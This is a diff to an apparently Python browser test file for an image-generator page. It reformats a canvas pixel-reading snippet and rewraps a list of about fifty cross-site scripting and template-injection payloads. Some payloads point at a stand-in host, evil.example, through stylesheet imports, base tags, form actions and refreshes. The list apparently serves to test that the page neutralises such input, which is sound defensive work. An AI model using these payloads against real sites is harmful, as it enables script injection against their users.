@@ -29,7 +29,8 @@ SHOTS = Path(os.environ.get("SCREENSHOTS", Path(__file__).parents[3] / "runs" / 
 SIZES = {"phone": (390, 844), "laptop": (1440, 900), "4k": (3840, 2160)}
 PROMPT = "a green ring above a striped yellow square on a pink background"
 PIXELS = """id => {
-  const canvas = document.getElementById(id), {data} = canvas.getContext("2d").getImageData(0, 0, canvas.width, canvas.height);
+  const canvas = document.getElementById(id), {width, height} = canvas;
+  const {data} = canvas.getContext("2d").getImageData(0, 0, width, height);
   return [canvas.width, canvas.height, btoa(String.fromCharCode(...data))];
 }"""
 DROP = """([name, type, text]) => {
@@ -242,19 +243,22 @@ def test_download_carries_the_settings_and_a_dropped_png_shows_them_first(browse
 
 
 XSS = [
-    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>", "\"><script>alert(1)</script>",
-    "'><img src=x onerror=alert(1)>", "javascript:alert(1)", "<iframe src=javascript:alert(1)>", "<body onload=alert(1)>",
-    "<a href=javascript:alert(1)>x</a>", "<input autofocus onfocus=alert(1)>", "<details open ontoggle=alert(1)>",
-    "<math><mi xlink:href=data:x,alert(1)>", "<object data=javascript:alert(1)>", "<embed src=javascript:alert(1)>",
-    "<link rel=stylesheet href=//evil.example>", "<meta http-equiv=refresh content=0;url=//evil.example>", "{{7*7}}", "${7*7}",
-    "<%= 7*7 %>", "`${alert(1)}`", "\\u003cscript\\u003ealert(1)", "&lt;script&gt;alert(1)", "&#60;script&#62;", "%3Cscript%3E",
-    "<style>*{display:none}</style>", "<style>@import '//evil.example'</style>", "</textarea><script>alert(1)</script>",
-    "</title><script>alert(1)</script>", "<!--<script>alert(1)//-->", "]]><script>alert(1)</script>", "<x onclick=alert(1)>x",
-    "<base href=//evil.example>", "<form action=//evil.example><button>x", "<video><source onerror=alert(1)>",
-    "<marquee onstart=alert(1)>", "<template><script>alert(1)</script></template>", "<noscript><p title='</noscript><img src=x>'>",
-    "__proto__", "constructor", "\u202e<script>", "\0<script>alert(1)", "<scr\0ipt>", "<ſcript>alert(1)", "＜script＞",
-    "-->\"'/><sCrIpT>alert(1)", "\"onmouseover=alert(1)//", "' autofocus onfocus='alert(1)", "data:text/html,<script>1</script>",
-    "<img srcset=x onerror=alert(1)>", "<button popovertarget=x>", "[click](javascript:alert(1))",
+    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>",
+    "\"><script>alert(1)</script>", "'><img src=x onerror=alert(1)>", "javascript:alert(1)",
+    "<iframe src=javascript:alert(1)>", "<body onload=alert(1)>", "<a href=javascript:alert(1)>x</a>",
+    "<input autofocus onfocus=alert(1)>", "<details open ontoggle=alert(1)>", "<math><mi xlink:href=data:x,alert(1)>",
+    "<object data=javascript:alert(1)>", "<embed src=javascript:alert(1)>",
+    "<link rel=stylesheet href=//evil.example>", "<meta http-equiv=refresh content=0;url=//evil.example>", "{{7*7}}",
+    "${7*7}", "<%= 7*7 %>", "`${alert(1)}`", "\\u003cscript\\u003ealert(1)", "&lt;script&gt;alert(1)",
+    "&#60;script&#62;", "%3Cscript%3E", "<style>*{display:none}</style>", "<style>@import '//evil.example'</style>",
+    "</textarea><script>alert(1)</script>", "</title><script>alert(1)</script>", "<!--<script>alert(1)//-->",
+    "]]><script>alert(1)</script>", "<x onclick=alert(1)>x", "<base href=//evil.example>",
+    "<form action=//evil.example><button>x", "<video><source onerror=alert(1)>", "<marquee onstart=alert(1)>",
+    "<template><script>alert(1)</script></template>", "<noscript><p title='</noscript><img src=x>'>", "__proto__",
+    "constructor", "\u202e<script>", "\0<script>alert(1)", "<scr\0ipt>", "<ſcript>alert(1)", "＜script＞",
+    "-->\"'/><sCrIpT>alert(1)", "\"onmouseover=alert(1)//", "' autofocus onfocus='alert(1)",
+    "data:text/html,<script>1</script>", "<img srcset=x onerror=alert(1)>", "<button popovertarget=x>",
+    "[click](javascript:alert(1))",
 ]  # fmt: skip
 
 
